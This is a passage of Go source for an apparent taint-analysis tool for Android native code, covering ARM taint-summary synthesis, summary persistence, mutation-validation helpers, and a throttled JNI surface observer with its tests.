	writes uint32
}

// Acceptable reports whether the transfer can replace tracing for a call
// with the given return width: it must be statically sound and the observed
// output rows must be expressible purely in argument cells (an OTHER bit
// means the return taint depends on state the bridge's argument taints do
// not determine). Rows[1] only constrains wide ('J'/'D') returns — for
// narrow returns the bridge never reads the r1 shadow.
func (t *Transfer) Acceptable(wide bool) bool {
	if t == nil || !t.Sound {
		return false
	}
	if t.Rows[0]&DepOther != 0 {
		return false
	}
	if wide && t.Rows[1]&DepOther != 0 {
		return false
	}
	return true
}

// unsound builds a rejected transfer.
func unsound(entry uint32, name string, insns int, reason string) *Transfer {
	return &Transfer{Entry: entry, Name: name, Insns: insns, Sound: false, Reason: reason}
}

// Rejection is the typed SummaryRejected diagnostic: a synthesized summary
// that validation (or an unsupported construct discovered late) demoted back
// to full tracing. It is reported through RunResult counters and study
// tables, never through the flow log — rejection must not perturb log parity.
type Rejection struct {
	Func   string `json:"func"`
	Entry  uint32 `json:"entry"`
	Reason string `json:"reason"`
}

func (r Rejection) String() string {
	return fmt.Sprintf("SummaryRejected %s@0x%x: %s", r.Func, r.Entry, r.Reason)
}

// LibReport is the per-library synthesis outcome a market study tabulates.
type LibReport struct {
	Lib       string `json:"lib"`
	Functions int    `json:"functions"` // native-method entry points considered
	Sound     int    `json:"sound"`     // statically sound transfers
	Accepted  int    `json:"accepted"`  // trusted at least once (post-validation in validated mode)
	Rejected  int    `json:"rejected"`  // demoted by mutation validation
	Traced    int    `json:"traced"`    // left on the full-tracing path
	Applied   uint64 `json:"applied"`   // crossings served by a summary
}

// String renders one table row.
func (r LibReport) String() string {
	return fmt.Sprintf("%-20s funcs=%d sound=%d accepted=%d rejected=%d traced=%d applied=%d",
		r.Lib, r.Functions, r.Sound, r.Accepted, r.Rejected, r.Traced, r.Applied)
}

// SynthesizeLib derives a transfer for every function in the library CFG
// (bound JNI entries and their local callees), composing local calls
// bottom-up. churned marks a library whose binding set changed mid-run
// (RegisterNatives): per the surface observer's churn semantics every
// synthesis there is unsound — the static CFG was rooted at a binding set
// that no longer holds.
func SynthesizeLib(cfg *static.NativeCFG, churned bool) map[uint32]*Transfer {
	out := make(map[uint32]*Transfer, len(cfg.Funcs))
	if churned {
		for entry, fn := range cfg.Funcs {
			out[entry] = unsound(entry, fn.Name, len(fn.Body), "registernatives-churn")
		}
		return out
	}
	// Deterministic order (map iteration feeds recursion depth only; results
	// are memoized, but keep the walk stable for reproducible Reason strings).
	entries := make([]uint32, 0, len(cfg.Funcs))
	for e := range cfg.Funcs {
		entries = append(entries, e)
	}
	sort.Slice(entries, func(i, j int) bool { return entries[i] < entries[j] })
	onStack := make(map[uint32]bool)
	for _, e := range entries {
		synthesize(cfg, e, out, onStack)
	}
	return out
}

// synthesize memoizes one function's transfer, recursing into local callees.
func synthesize(cfg *static.NativeCFG, entry uint32, memo map[uint32]*Transfer, onStack map[uint32]bool) *Transfer {
	entry &^= 1
	if t, ok := memo[entry]; ok {
		return t
	}
	fn := cfg.Funcs[entry]
	if fn == nil {
		t := unsound(entry, "", 0, "unknown-function")
		memo[entry] = t
		return t
	}
	if onStack[entry] {
		t := unsound(entry, fn.Name, len(fn.Body), "recursive")
		memo[entry] = t
		return t
	}
	onStack[entry] = true
	t := synthFunc(cfg, fn, func(callee uint32) *Transfer {
		return synthesize(cfg, callee, memo, onStack)
	})
	delete(onStack, entry)
	memo[entry] = t
	return t
}

// calleeSavedMask covers r4–r11, SP, and LR: registers a composable callee
// must never write, because the composition keeps the caller's dependence
// state for everything outside the callee's write mask.
const calleeSavedMask = 0x0ff0 | 1<<arm.SP | 1<<arm.LR

// synthFunc runs the taint-transfer dataflow over one function body. lookup
// resolves local callees (already synthesized, or detected as recursive).
func synthFunc(cfg *static.NativeCFG, fn *static.NativeFunc, lookup func(uint32) *Transfer) *Transfer {
	if fn.BadDecode {
		return unsound(fn.Entry, fn.Name, len(fn.Body), "bad-decode")
	}
	if fn.Unresolved {
		return unsound(fn.Entry, fn.Name, len(fn.Body), "indirect-branch")
	}
	if len(fn.Body) == 0 {
		return unsound(fn.Entry, fn.Name, 0, "empty-body")
	}

	// Eligibility sweep: every reachable instruction must have an exact
	// tracer mirror, and composed callees must be sound and callee-save
	// clean.
	var writes uint32
	callees := make(map[uint32]*Transfer)
	for _, a := range fn.Body {
		ni := cfg.Insns[a]
		if ni == nil {
			return unsound(fn.Entry, fn.Name, len(fn.Body), "undecoded-body")
		}
		if reason := insnReason(ni, fn.Entry); reason != "" {
			return unsound(fn.Entry, fn.Name, len(fn.Body), reason)
		}
		writes |= ni.Insn.WriteRegs()
		if ni.Insn.Op == arm.OpBL && ni.CallLocal != 0 {
			ct := lookup(ni.CallLocal)
			if !ct.Sound {
				return unsound(fn.Entry, fn.Name, len(fn.Body), "callee:"+ct.Reason)
			}
			if ct.writes&calleeSavedMask != 0 {
				return unsound(fn.Entry, fn.Name, len(fn.Body), "callee-writes-saved-reg")
			}
			callees[ni.CallLocal] = ct
			writes |= ct.writes
		}
	}

	g := newBodyGraph(cfg, fn)
	entryIdx, ok := g.index[fn.Entry]
	if !ok {
		return unsound(fn.Entry, fn.Name, len(fn.Body), "entry-not-in-body")
	}

	// Entry boundary: r0–r3 depend on their own argument cells (the bridge
	// zeroes their shadows and the source policy seeds them); everything else
	// — r4–r15 — carries whatever the surrounding execution left, i.e. OTHER.
	boundary := static.NewBitSet(stateBits)
	for r := 0; r < 16; r++ {
		if r < NumArgCells {
			boundary.Set(stateBit(r, r))
		} else {
			boundary.Set(stateBit(r, otherCell))
		}
	}

	outs := static.Solve(g, static.Problem{
		Dir:  static.Forward,
		Join: static.May,
		Bits: stateBits,
		Boundary: func(n int) static.BitSet {
			if n == entryIdx {
				return boundary
			}
			return nil
		},
		Transfer: func(n int, in static.BitSet) static.BitSet {
			return transferInsn(cfg.Insns[g.addr(n)], in, callees)
		},
	})

	// Exit state: May-join over every return node. Extern tail calls are
	// ineligible, so every return here is BX LR / MOV PC, LR.
	exit := static.NewBitSet(stateBits)
	returns := 0
	for i, a := range fn.Body {
		ni := cfg.Insns[a]
		if ni != nil && ni.Return {
			exit.Union(outs[i])
			returns++
		}
	}
	if returns == 0 {
		return unsound(fn.Entry, fn.Name, len(fn.Body), "no-return")
	}

	t := &Transfer{Entry: fn.Entry, Name: fn.Name, Insns: len(fn.Body), Sound: true, writes: writes}
	for r := 0; r < 16; r++ {
		t.regs[r] = regDeps(exit, r)
	}
	t.Rows[0] = t.regs[0]
	t.Rows[1] = t.regs[1]
	return t
}

// insnReason returns "" when the instruction has an exact tracer mirror, or
// the unsoundness reason otherwise.
func insnReason(ni *static.NativeInsn, entry uint32) string {
	insn := ni.Insn
	switch insn.Op {
	case arm.OpADD, arm.OpSUB, arm.OpRSB, arm.OpADC, arm.OpSBC,
		arm.OpAND, arm.OpORR, arm.OpEOR, arm.OpBIC,
		arm.OpLSL, arm.OpLSR, arm.OpASR, arm.OpROR,
		arm.OpMUL, arm.OpSDIV, arm.OpUDIV,
		arm.OpFADDS, arm.OpFSUBS, arm.OpFMULS, arm.OpFDIVS,
		arm.OpFADDD, arm.OpFSUBD, arm.OpFMULD, arm.OpFDIVD,
		arm.OpSITOF, arm.OpFTOSI, arm.OpSITOD, arm.OpDTOSI,
		arm.OpMVN, arm.OpMOVW, arm.OpMOVT,
		arm.OpCMP, arm.OpCMN, arm.OpTST, arm.OpTEQ, arm.OpNOP:
		return ""
	case arm.OpMOV:
		// MOV PC, LR is the return form the CFG marked; plain moves mirror
		// handleMove. Any other PC-writing MOV would be Indirect already.
		return ""
	case arm.OpB:
		if ni.Indirect {
			return "indirect-branch"
		}
		if ni.CallName != "" {
			return "extern-tail-call:" + ni.CallName
		}
		// A branch back to the function's own entry would re-fire the entry
		// hook mid-validation and consume the pending source policy; reject.
		for _, s := range ni.Succs {
			if s == entry {
				return "branch-to-entry"
			}
		}
		return ""
	case arm.OpBL:
		if ni.CallLocal != 0 {
			if ni.CallLocal == entry {
				return "recursive"
			}
			return ""
		}
		if ni.CallName != "" {
			// Extern callees run modeled hooks that log and read live taint
			// state mid-call; no static mirror can reproduce that.
			return "extern-call:" + ni.CallName
		}
		return "indirect-call"
	case arm.OpBX:
		if ni.Return {
			return ""
		}
		if ni.CallName != "" {
			return "extern-tail-call:" + ni.CallName
		}
		if ni.Indirect {
			return "indirect-branch"
		}
		// Const-resolved in-program BX: a branch; the tracer ignores it.
		for _, s := range ni.Succs {
			if s == entry {
				return "branch-to-entry"
			}
		}
		return ""
	case arm.OpBLX:
		// The assembler expands extern BL into a MOVW/MOVT/BLX-ip veneer, so
		// resolved extern calls surface here; name them for the study table.
		if ni.CallName != "" {
			return "extern-call:" + ni.CallName
		}
		return "blx"
	case arm.OpSVC:
		return "syscall"
	case arm.OpHLT:
		return "halt"
	case arm.OpLDR, arm.OpLDRB, arm.OpLDRH, arm.OpSTR, arm.OpSTRB, arm.OpSTRH,
		arm.OpLDM, arm.OpSTM:
		// Memory cells are not modeled in v1: a load reads taint the argument
		// cells do not determine, a store changes taint state the bridge
		// cannot replay.
		return "memory"
	default:
		return "op:" + insn.Op.String()
	}
}

// --- dataflow state ----------------------------------------------------------

// The fact vector is 16 registers x 5 cells.
const (
	numCells  = 5
	otherCell = 4
	stateBits = 16 * numCells
)

func stateBit(reg, cell int) int { return reg*numCells + cell }

// regDeps extracts one register's dep set from a state vector.
func regDeps(s static.BitSet, reg int) Dep {
	var d Dep
	for c := 0; c < numCells; c++ {
		if s.Get(stateBit(reg, c)) {
			d |= 1 << uint(c)
		}
	}
	return d
}

// setRegDeps replaces one register's dep set in a state vector.
func setRegDeps(s static.BitSet, reg int, d Dep) {
	for c := 0; c < numCells; c++ {
		bit := stateBit(reg, c)
		if d&(1<<uint(c)) != 0 {
			s.Set(bit)
		} else {
			s.Clear(bit)
		}
	}
}

// transferInsn mirrors the tracer's Table V handler for one instruction over
// the abstract state. Conditionally-executed instructions (the tracer skips
// the handler when the condition fails) fold the skip path in with a union.
func transferInsn(ni *static.NativeInsn, in static.BitSet, callees map[uint32]*Transfer) static.BitSet {
	out := in.Copy()
	if ni == nil {
		return out
	}
	insn := ni.Insn
	set := func(reg int, d Dep) {
		if insn.Cond != arm.CondAL {
			d |= regDeps(out, reg)
		}
		setRegDeps(out, reg, d)
	}

	switch insn.Op {
	case arm.OpADD, arm.OpSUB, arm.OpRSB, arm.OpADC, arm.OpSBC,
		arm.OpAND, arm.OpORR, arm.OpEOR, arm.OpBIC,
		arm.OpLSL, arm.OpLSR, arm.OpASR, arm.OpROR:
		// handleBinary: t(Rd) = t(Rn) | t(Rm) (register form) or t(Rn).
		d := regDeps(out, int(insn.Rn))
		if !insn.HasImm {
			d |= regDeps(out, int(insn.Rm))
		}
		set(int(insn.Rd), d)
	case arm.OpMUL, arm.OpSDIV, arm.OpUDIV,
		arm.OpFADDS, arm.OpFSUBS, arm.OpFMULS, arm.OpFDIVS:
		set(int(insn.Rd), regDeps(out, int(insn.Rn))|regDeps(out, int(insn.Rm)))
	case arm.OpFADDD, arm.OpFSUBD, arm.OpFMULD, arm.OpFDIVD:
		d := regDeps(out, int(insn.Rn)) | regDeps(out, int(insn.Rn)+1) |
			regDeps(out, int(insn.Rm)) | regDeps(out, int(insn.Rm)+1)
		set(int(insn.Rd), d)
		set(int(insn.Rd)+1, d)
	case arm.OpMOV, arm.OpMVN:
		if insn.HasImm {
			set(int(insn.Rd), 0)
		} else {
			set(int(insn.Rd), regDeps(out, int(insn.Rm)))
		}
	case arm.OpMOVW:
		set(int(insn.Rd), 0)
	case arm.OpSITOF, arm.OpFTOSI:
		set(int(insn.Rd), regDeps(out, int(insn.Rm)))
	case arm.OpSITOD:
		d := regDeps(out, int(insn.Rm))
		set(int(insn.Rd), d)
		set(int(insn.Rd)+1, d)
	case arm.OpDTOSI:
		set(int(insn.Rd), regDeps(out, int(insn.Rm))|regDeps(out, int(insn.Rm)+1))
	case arm.OpBL:
		if ct := callees[ni.CallLocal]; ct != nil {
			composeCall(out, ct, insn.Cond != arm.CondAL)
		}
		// The tracer has no BL handler: t(LR) is left as-is even though the
		// hardware writes the return address. Mirror that — no LR change.
	}
	// MOVT, compares, NOP, B, BX (return or branch): no taint effect.
	return out
}

// composeCall folds a sound callee's effect into the caller state at a BL
// site: registers the callee may write take the callee's exit rows with the
// callee's argument cells resolved against the caller's current r0–r3 deps
// and the callee's OTHER cell resolved against the union of the caller's
// r4–r15 deps; registers outside the write mask are untouched (the tracer
// never updates an unwritten register's shadow).
func composeCall(state static.BitSet, ct *Transfer, conditional bool) {
	var argDeps [NumArgCells]Dep
	for i := 0; i < NumArgCells; i++ {
		argDeps[i] = regDeps(state, i)
	}
	var highDeps Dep
	for r := NumArgCells; r < 16; r++ {
		highDeps |= regDeps(state, r)
	}
	resolve := func(row Dep) Dep {
		var d Dep
		for i := 0; i < NumArgCells; i++ {
			if row&(1<<uint(i)) != 0 {
				d |= argDeps[i]
			}
		}
		if row&DepOther != 0 {
			d |= highDeps
		}
		return d
	}
	for r := 0; r < 16; r++ {
		if ct.writes&(1<<uint(r)) == 0 {
			continue
		}
		d := resolve(ct.regs[r])
		if conditional {
			d |= regDeps(state, r)
		}
		setRegDeps(state, r, d)
	}
}

// --- body graph --------------------------------------------------------------

// bodyGraph adapts one NativeFunc body to the dataflow Graph interface
// (static's own adapter is unexported).
type bodyGraph struct {
	fn    *static.NativeFunc
	cfg   *static.NativeCFG
	index map[uint32]int
	succs [][]int
	preds [][]int
}

func newBodyGraph(cfg *static.NativeCFG, fn *static.NativeFunc) *bodyGraph {
	g := &bodyGraph{fn: fn, cfg: cfg, index: make(map[uint32]int, len(fn.Body))}
	for i, a := range fn.Body {
		g.index[a] = i
	}
	g.succs = make([][]int, len(fn.Body))
	g.preds = make([][]int, len(fn.Body))
	for i, a := range fn.Body {
		ni := cfg.Insns[a]
		if ni == nil {
			continue
		}
		for _, s := range ni.Succs {
			if j, ok := g.index[s]; ok {
				g.succs[i] = append(g.succs[i], j)
				g.preds[j] = append(g.preds[j], i)
			}
		}
	}
	return g
}

func (g *bodyGraph) NumNodes() int     { return len(g.fn.Body) }
func (g *bodyGraph) Succs(n int) []int { return g.succs[n] }
func (g *bodyGraph) Preds(n int) []int { return g.preds[n] }
func (g *bodyGraph) addr(n int) uint32 { return g.fn.Body[n] }
