package summary

// PortableLib is the CAS-persistable form of a library's synthesized
// summaries. Only the static synthesis travels: validation verdicts are
// per-run dynamic state (they depend on concrete argument values observed at
// the first crossing) and are re-derived on every analysis. The artifact is
// keyed by the name-excluded lib code digest, so identical native code
// shipped under different library names by different apps replays the same
// synthesis.
type PortableLib struct {
	Funcs []PortableFunc `json:"funcs"`
}

// PortableFunc is one function's transfer in portable form.
type PortableFunc struct {
	Entry  uint32  `json:"entry"`
	Name   string  `json:"name"`
	Insns  int     `json:"insns"`
	Sound  bool    `json:"sound"`
	Reason string  `json:"reason,omitempty"`
	Rows   [2]Dep  `json:"rows"`
	Regs   [16]Dep `json:"regs"`
	Writes uint32  `json:"writes"`
}

// Export flattens a synthesis result for persistence, sorted by entry for a
// stable encoding.
func Export(m map[uint32]*Transfer) *PortableLib {
	p := &PortableLib{Funcs: make([]PortableFunc, 0, len(m))}
	for _, t := range m {
		p.Funcs = append(p.Funcs, PortableFunc{
			Entry: t.Entry, Name: t.Name, Insns: t.Insns,
			Sound: t.Sound, Reason: t.Reason,
			Rows: t.Rows, Regs: t.regs, Writes: t.writes,
		})
	}
	for i := 1; i < len(p.Funcs); i++ {
		for j := i; j > 0 && p.Funcs[j-1].Entry > p.Funcs[j].Entry; j-- {
			p.Funcs[j-1], p.Funcs[j] = p.Funcs[j], p.Funcs[j-1]
		}
	}
	return p
}

// Rehydrate reconstructs the in-memory synthesis map from a persisted
// artifact.
func Rehydrate(p *PortableLib) map[uint32]*Transfer {
	m := make(map[uint32]*Transfer, len(p.Funcs))
	for _, f := range p.Funcs {
		m[f.Entry] = &Transfer{
			Entry: f.Entry, Name: f.Name, Insns: f.Insns,
			Sound: f.Sound, Reason: f.Reason,
			Rows: f.Rows, regs: f.Regs, writes: f.Writes,
		}
	}
	return m
}
