package summary

import "repro/internal/taint"

// Validation plan helpers. The emulator-driving half of μDep-style mutation
// validation lives in internal/core (it needs the CPU, snapshots, and hook
// plumbing); this file owns the pure parts — which mutations to run, which
// probe tags mark which input cell, and how an observed output taint maps
// back to a dep set — so they can be unit-tested without an emulator.

// ProbeTag is the synthetic taint tag planted on argument register i during
// a validation run. The tags sit above the policy tag space (source policies
// use the low 16 bits) so a probe can never be confused with a real taint.
func ProbeTag(i int) taint.Tag { return taint.Tag(1) << uint(16+i) }

// SentinelTag is planted on every callee-saved register (r4–r12, LR) during
// a validation run. A sentinel bit observed in an output register means the
// output depends on non-argument state — the concrete witness of an OTHER
// dependence, which is grounds for rejection regardless of what the static
// pass claimed.
const SentinelTag = taint.Tag(1) << 20

// probeMask covers all four probe bits.
const probeMask = taint.Tag(0xf) << 16

// Mutation is one validation run's argument-register taint assignment plus
// the concrete value overrides to apply. Index < 0 means "no value
// mutation" (the baseline run replays the actual crossing arguments).
type Mutation struct {
	Index int    // argument register to mutate, or -1 for baseline
	Value uint32 // replacement value for that register
}

// Mutations builds the validation plan for a crossing with the given actual
// register arguments: one baseline run plus, per present argument, a bitwise
// complement and a zero — three concrete points per cell, enough to expose
// value-dependent transfers like "taint flows only when the byte is
// nonzero" on at least one side of the branch.
func Mutations(args []uint32) []Mutation {
	plan := []Mutation{{Index: -1}}
	for i, v := range args {
		if i >= NumArgCells {
			break
		}
		plan = append(plan, Mutation{Index: i, Value: ^v})
		plan = append(plan, Mutation{Index: i, Value: 0})
	}
	return plan
}

// ObservedDep decodes the dep set a validation run actually exhibited: which
// probe bits reached the output, with any sentinel leakage folded into
// OTHER. Extra bits outside the probe/sentinel space cannot occur (argument
// shadows are zeroed by the bridge before probes are planted), but are
// folded into OTHER defensively — an unexplained bit must reject, never
// accept.
func ObservedDep(t taint.Tag) Dep {
	var d Dep
	for i := 0; i < NumArgCells; i++ {
		if t&ProbeTag(i) != 0 {
			d |= 1 << uint(i)
		}
	}
	if t&^probeMask != 0 {
		d |= DepOther
	}
	return d
}
