package surface

import (
	"testing"

	"repro/internal/fault"
)

// A flood over one boundary must cost O(log calls) events throttled and stop
// charging the budget entirely once exhausted, with the loss counted.
func TestThrottledFloodStaysBounded(t *testing.T) {
	o := NewObserver()
	o.Register("Lx;.check", false, 0, 0x1000)
	for i := 0; i < 1_000_000; i++ {
		o.Call("Lx;.check")
	}
	m := o.Map()
	if m.UniqueBoundaries != 1 {
		t.Fatalf("boundaries = %d, want 1", m.UniqueBoundaries)
	}
	if m.Calls != 1_000_000 {
		t.Fatalf("raw calls = %d, want 1000000", m.Calls)
	}
	if m.Events > o.Budget {
		t.Fatalf("events %d exceed budget %d", m.Events, o.Budget)
	}
	// 1 registration + buckets 1,2,4,...,2^19 = 21 events: under budget,
	// so a single flooded boundary alone does not truncate.
	if m.Truncated {
		t.Fatalf("single-boundary flood should fit the budget, map truncated: %+v", m)
	}
	if m.Events != 21 {
		t.Fatalf("events = %d, want 21 (1 reg + 20 power-of-two buckets)", m.Events)
	}
}

func TestUnthrottledFloodBlowsBudget(t *testing.T) {
	o := NewObserver()
	o.Throttle = false
	for i := 0; i < 10_000; i++ {
		o.Call("Lx;.check")
	}
	m := o.Map()
	if !m.Truncated {
		t.Fatal("unthrottled flood must truncate")
	}
	if m.Events > o.Budget {
		t.Fatalf("events %d exceed budget %d", m.Events, o.Budget)
	}
	if m.Dropped != 10_000-uint64(o.Budget) {
		t.Fatalf("dropped = %d, want %d", m.Dropped, 10_000-o.Budget)
	}
	if m.Calls != 10_000 {
		t.Fatalf("raw calls survive truncation: got %d", m.Calls)
	}
}

// Boundaries discovered after exhaustion still appear in the map with raw
// counters: truncation loses event detail, never discovery.
func TestDiscoverySurvivesTruncation(t *testing.T) {
	o := NewObserver()
	o.Budget = 2
	o.Call("La;.a")
	o.Call("Lb;.b")
	o.Register("Lc;.late", true, 0x1000, 0x2000)
	m := o.Map()
	if !m.Truncated {
		t.Fatal("want truncated")
	}
	if m.UniqueBoundaries != 3 {
		t.Fatalf("boundaries = %d, want 3 (late boundary still discovered)", m.UniqueBoundaries)
	}
	var late *Boundary
	for i := range m.Boundaries {
		if m.Boundaries[i].Name == "Lc;.late" {
			late = &m.Boundaries[i]
		}
	}
	if late == nil || !late.Dynamic || late.RegEvents != 1 {
		t.Fatalf("late boundary lost: %+v", late)
	}
	if len(late.Registrations) != 0 {
		t.Fatalf("budget-exhausted registration history must be dropped, got %v", late.Registrations)
	}
}

func TestMapBytesDeterministic(t *testing.T) {
	build := func() *Map {
		o := NewObserver()
		o.Register("Lb;.m2", true, 0x10, 0x20)
		o.Register("La;.m1", false, 0, 0x30)
		for i := 0; i < 7; i++ {
			o.Call("La;.m1")
		}
		o.Reflect("Lc;.cb")
		o.CodeWrite(0x5004)
		o.CodeWrite(0x5008)
		return o.Map()
	}
	a, b := build(), build()
	if !a.Equal(b) {
		t.Fatalf("identical runs produced different maps:\n%s\n%s", a.Bytes(), b.Bytes())
	}
	if a.Boundaries[0].Name != "La;.m1" {
		t.Fatalf("boundaries not sorted: %s first", a.Boundaries[0].Name)
	}
}

// An injected surface.overflow hit truncates exactly like a real exhaustion:
// the map is flagged, later events drop, raw counters survive.
func TestInjectedOverflowTruncates(t *testing.T) {
	defer fault.Reset()
	if err := fault.Arm(SiteOverflow, fault.BudgetExceeded); err != nil {
		t.Fatal(err)
	}
	o := NewObserver()
	o.Call("La;.m")
	o.Call("La;.m")
	m := o.Map()
	if fault.Fired(SiteOverflow) != 1 {
		t.Fatalf("site fired %d times, want 1", fault.Fired(SiteOverflow))
	}
	if !m.Truncated {
		t.Fatal("injected overflow must truncate the map")
	}
	if m.Events != 0 {
		t.Fatalf("events = %d, want 0 (first event attempt absorbed the injection)", m.Events)
	}
	if m.Calls != 2 {
		t.Fatalf("raw calls = %d, want 2", m.Calls)
	}
}
