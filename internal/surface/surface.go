// Package surface builds the per-app JNI surface map: every native boundary
// the run discovers, every registration and re-registration event (static
// stub binds vs dynamic RegisterNatives, including mid-run implementation
// swaps), reflection-driven dispatches from native code back into Java, and
// per-boundary call counts.
//
// The observer is designed for hostile apps. A RASP-style anti-analysis loop
// can cross one JNI boundary millions of times; recording every crossing
// would turn the surface map into an amplification vector. Two mechanisms
// bound the cost:
//
//   - Dedup + count-bucketed throttling: raw per-boundary counters always
//     increment (O(1) memory per unique boundary), but a crossing only
//     becomes a recorded *event* when its per-boundary count reaches a power
//     of two — the same 1/2/4/8/... bucketing the production JNI tracers in
//     the exemplar tooling use against RASP-protected apps.
//   - A hard per-app event budget: once the run has recorded Budget events,
//     further events are dropped (counted, never recorded) and the map is
//     flagged Truncated. A flood therefore costs O(unique boundaries), not
//     O(calls), and the loss is typed and verdict-visible instead of silent.
//
// Everything the observer does is deterministic in the guest's instruction
// stream and writes nothing to the flow log, so surface maps are
// byte-identical across fused/unfused execution, snapshot restores, parallel
// workers, and warm service-cache replays — properties the parity suites
// enforce.
package surface

import (
	"encoding/json"
	"fmt"
	"sort"
	"strings"

	"repro/internal/fault"
)

// SiteOverflow is the injection site modelling budget exhaustion. It carries
// absorbed semantics: an injected hit truncates the surface map from that
// event on (exactly as a real budget exhaustion would), while flow logs and
// verdicts stay byte-identical to an uninjected run.
const SiteOverflow = "surface.overflow"

func init() { fault.RegisterSite(SiteOverflow, "surface") }

// DefaultEventBudget is the hard per-app recorded-event budget. It is sized
// so every well-behaved corpus app fits with headroom while a boundary flood
// (which generates ~log2(calls) bucketed events per boundary plus its
// registrations) overruns it and gets flagged.
const DefaultEventBudget = 32

// Observer accumulates the surface map for one analysis attempt. It is not
// safe for concurrent use; the analyzer drives it from the single-threaded
// emulation loop.
type Observer struct {
	// Budget is the hard cap on recorded events (default DefaultEventBudget).
	Budget int
	// Throttle enables power-of-two count bucketing. Disabling it is the
	// unthrottled baseline: every crossing attempts an event, which a flood
	// app demonstrably blows past the budget with.
	Throttle bool

	boundaries map[string]*boundary
	pages      map[uint32]uint64
	codeWrites uint64
	events     int
	dropped    uint64
	truncated  bool
}

type boundary struct {
	regs       []Registration
	regEvents  uint64
	calls      uint64
	callEvents int
	reflects   uint64
	dynamic    bool
}

// NewObserver returns an observer with the default budget and throttling on.
func NewObserver() *Observer {
	return &Observer{
		Budget:     DefaultEventBudget,
		Throttle:   true,
		boundaries: map[string]*boundary{},
		pages:      map[uint32]uint64{},
	}
}

func (o *Observer) boundaryFor(name string) *boundary {
	b := o.boundaries[name]
	if b == nil {
		b = &boundary{}
		o.boundaries[name] = b
	}
	return b
}

// event is the budget gate every recorded observation passes through. It
// probes the surface.overflow injection site (an injected hit forces
// truncation, absorbed), then charges the budget. Suppressed events are
// counted in dropped so truncation loss is quantified, never silent.
func (o *Observer) event() bool {
	if fault.Enabled() {
		if f := fault.Hit(SiteOverflow, 0); f != nil {
			o.truncated = true
		}
	}
	if o.truncated || o.events >= o.Budget {
		o.truncated = true
		o.dropped++
		return false
	}
	o.events++
	return true
}

func bucketed(n uint64) bool { return n&(n-1) == 0 }

// Register records a binding of name to code: dynamic=true for guest
// RegisterNatives (including mid-run swaps), false for install-time static
// stub binds seeded at analyzer attach. The boundary is always discovered
// and its raw counters advance even past the budget; only the registration
// history entry is budget-bound.
func (o *Observer) Register(name string, dynamic bool, old, new uint32) {
	if o == nil {
		return
	}
	b := o.boundaryFor(name)
	b.regEvents++
	if dynamic {
		b.dynamic = true
	}
	if o.event() {
		b.regs = append(b.regs, Registration{Dynamic: dynamic, Old: old, New: new})
	}
}

// Call records one Dalvik->native crossing of boundary name. The raw count
// always increments; an event is attempted on every crossing unthrottled, or
// at power-of-two counts when throttled.
func (o *Observer) Call(name string) {
	if o == nil {
		return
	}
	b := o.boundaryFor(name)
	b.calls++
	if !o.Throttle || bucketed(b.calls) {
		if o.event() {
			b.callEvents++
		}
	}
}

// Reflect records a native->Java reflection-style dispatch (CallStaticXMethod
// and friends) targeting Java method name, with the same bucketing as Call.
func (o *Observer) Reflect(name string) {
	if o == nil {
		return
	}
	b := o.boundaryFor(name)
	b.reflects++
	if !o.Throttle || bucketed(b.reflects) {
		if o.event() {
			b.callEvents++
		}
	}
}

// CodeWrite records a guest store into translated native code (the SMC
// notify): self-modifying natives that rewrite their own hooks show up here.
// Writes are deduplicated per page and bucketed like calls.
func (o *Observer) CodeWrite(addr uint32) {
	if o == nil {
		return
	}
	o.codeWrites++
	page := addr >> 12
	o.pages[page]++
	if !o.Throttle || bucketed(o.pages[page]) {
		o.event()
	}
}

// Truncated reports whether the event budget was exhausted (or exhaustion
// was injected at surface.overflow).
func (o *Observer) Truncated() bool { return o != nil && o.truncated }

// Registration is one recorded binding event for a boundary.
type Registration struct {
	Dynamic bool   `json:"dynamic"`
	Old     uint32 `json:"old"`
	New     uint32 `json:"new"`
}

// Boundary is the per-native-method row of the surface map.
type Boundary struct {
	Name          string         `json:"name"`
	Registrations []Registration `json:"registrations,omitempty"`
	RegEvents     uint64         `json:"reg_events"`
	Calls         uint64         `json:"calls"`
	CallEvents    int            `json:"call_events"`
	ReflectCalls  uint64         `json:"reflect_calls,omitempty"`
	Dynamic       bool           `json:"dynamic,omitempty"`
}

// Map is the deterministic snapshot of one attempt's JNI surface: boundaries
// sorted by name, totals, and the truncation flag. It is the artifact stored
// under the service verdict record and compared byte-for-byte by the parity
// suites.
type Map struct {
	Boundaries       []Boundary `json:"boundaries"`
	UniqueBoundaries int        `json:"unique_boundaries"`
	Events           int        `json:"events"`
	Dropped          uint64     `json:"dropped"`
	Calls            uint64     `json:"calls"`
	CodeWrites       uint64     `json:"code_writes,omitempty"`
	CodePages        int        `json:"code_pages,omitempty"`
	Truncated        bool       `json:"truncated"`
}

// Map renders the observer state as a sorted, comparable snapshot.
func (o *Observer) Map() *Map {
	if o == nil {
		return nil
	}
	m := &Map{
		UniqueBoundaries: len(o.boundaries),
		Events:           o.events,
		Dropped:          o.dropped,
		CodeWrites:       o.codeWrites,
		CodePages:        len(o.pages),
		Truncated:        o.truncated,
	}
	names := make([]string, 0, len(o.boundaries))
	for n := range o.boundaries {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		b := o.boundaries[n]
		m.Calls += b.calls
		m.Boundaries = append(m.Boundaries, Boundary{
			Name:          n,
			Registrations: b.regs,
			RegEvents:     b.regEvents,
			Calls:         b.calls,
			CallEvents:    b.callEvents,
			ReflectCalls:  b.reflects,
			Dynamic:       b.dynamic,
		})
	}
	return m
}

// Bytes is the canonical serialized form — the byte string the parity suites
// compare. Field order is fixed by the struct, boundary order by the sort in
// Map, so equal maps serialize identically.
func (m *Map) Bytes() []byte {
	if m == nil {
		return nil
	}
	b, err := json.Marshal(m)
	if err != nil {
		// Map contains only marshalable fields; this cannot fail.
		panic(err)
	}
	return b
}

// Equal compares two maps by canonical bytes.
func (m *Map) Equal(other *Map) bool {
	return string(m.Bytes()) == string(other.Bytes())
}

// String renders the map as the operator-facing table marketstudy prints.
func (m *Map) String() string {
	if m == nil {
		return "(no surface map)\n"
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "%-40s %5s %9s %7s %4s %4s\n", "boundary", "regs", "calls", "reflect", "evts", "dyn")
	for _, b := range m.Boundaries {
		dyn := ""
		if b.Dynamic {
			dyn = "dyn"
		}
		fmt.Fprintf(&sb, "%-40s %5d %9d %7d %4d %4s\n",
			b.Name, b.RegEvents, b.Calls, b.ReflectCalls, b.CallEvents, dyn)
	}
	trunc := ""
	if m.Truncated {
		trunc = "  TRUNCATED"
	}
	smc := ""
	if m.CodeWrites > 0 {
